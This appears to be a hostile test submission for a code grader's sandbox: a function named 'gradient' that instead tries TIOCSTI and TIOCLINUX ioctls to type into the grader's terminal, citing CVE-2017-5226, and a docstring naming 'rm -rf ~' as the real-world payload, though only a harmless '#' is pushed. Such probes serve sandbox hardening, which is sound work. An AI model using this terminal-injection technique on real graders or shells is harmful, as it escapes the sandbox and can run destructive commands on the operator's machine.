"""Hostile: typing into the grader's terminal with TIOCSTI (CVE-2017-5226, bubblewrap's
first CVE) or TIOCLINUX, through the controlling terminal or any inherited descriptor.

A character pushed into the terminal the grader was started from is read by the
shell once the grader exits: "rm -rf ~\\n" typed by a submission.  The payload
here is a harmless comment, and it is only ever pushed where the ioctl works.
"""

import fcntl
import os
import termios

import numpy as np

TIOCLINUX = 0x541C


def gradient(X, y, w):
    pushed = 0
    fds = [0, 1, 2]
    try:
        fds.append(os.open("/dev/tty", os.O_RDWR))
    except OSError:
        pass
    for fd in fds:
        for request in (termios.TIOCSTI,):
            try:
                fcntl.ioctl(fd, request, b"#")
                pushed += 1
            except OSError:
                pass
        try:
            fcntl.ioctl(fd, TIOCLINUX, bytes([2, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]))
            pushed += 1
        except OSError:
            pass
    return np.array([pushed, len(fds)])
